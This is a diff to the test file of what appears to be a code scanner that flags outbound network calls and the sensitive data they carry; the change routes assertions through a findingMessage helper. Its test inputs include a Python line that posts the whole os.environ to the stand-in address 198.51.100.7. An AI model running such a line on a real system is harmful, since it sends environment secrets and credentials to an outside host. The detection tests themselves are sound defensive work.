@@ -1,5 +1,6 @@
 // Destinations (constant folding, env vars, parameters, SDK base URLs) and what a call carries
 // (credentials, sensitive data sources that raise the risk and are named in the message).
+import { findingMessage } from '../src/report/wording.js';
 import type { Destination, Finding } from '../src/types.js';
 import { scanText } from './helpers/engine.js';
 
@@ -105,7 +106,7 @@ describe('destinations', () => {
 
   it('a dynamic destination is explained in the message', async () => {
     const f = await only(HEAD + 'requests.post(os.environ.get("HOOK_URL", "https://d.example.com/x"))');
-    expect(f.message).toBe(
+    expect(findingMessage(f)).toBe(
       'Sends data to a destination from env HOOK_URL (default d.example.com) (requests (HTTP)) via requests.post.',
     );
   });
@@ -121,7 +122,7 @@ describe('destinations', () => {
     );
     expect(f.ruleId).toBe('ai.openai');
     expect(f.destination).toEqual({ host: 'llm.internal.example', scheme: 'https', source: 'literal' });
-    expect(f.message).toContain('llm.internal.example (OpenAI)');
+    expect(findingMessage(f)).toContain('llm.internal.example (OpenAI)');
   });
 
   it('a known SDK with base_url from the environment says so', async () => {
@@ -172,12 +173,14 @@ describe('what a call carries', () => {
     const f = await only(code);
     expect(f.dataSources).toContain(source);
     expect(f.risk).toBe('high'); // network is medium by default
-    expect(f.message).toMatch(new RegExp(`^Sends .*${source.replace(/[.()]/g, '\\$&')}.* to 198\\.51\\.100\\.7 `));
+    expect(findingMessage(f)).toMatch(
+      new RegExp(`^Sends .*${source.replace(/[.()]/g, '\\$&')}.* to 198\\.51\\.100\\.7 `),
+    );
   });
 
   it('a payload built directly in the call', async () => {
     const f = await only('import os, requests\nrequests.post("http://198.51.100.7/c", json=dict(os.environ))');
-    expect(f.message).toBe('Sends os.environ to 198.51.100.7 (requests (HTTP)) via requests.post.');
+    expect(findingMessage(f)).toBe('Sends os.environ to 198.51.100.7 (requests (HTTP)) via requests.post.');
     expect(f.risk).toBe('high');
     expect(f.cwe).toContain(319);
   });
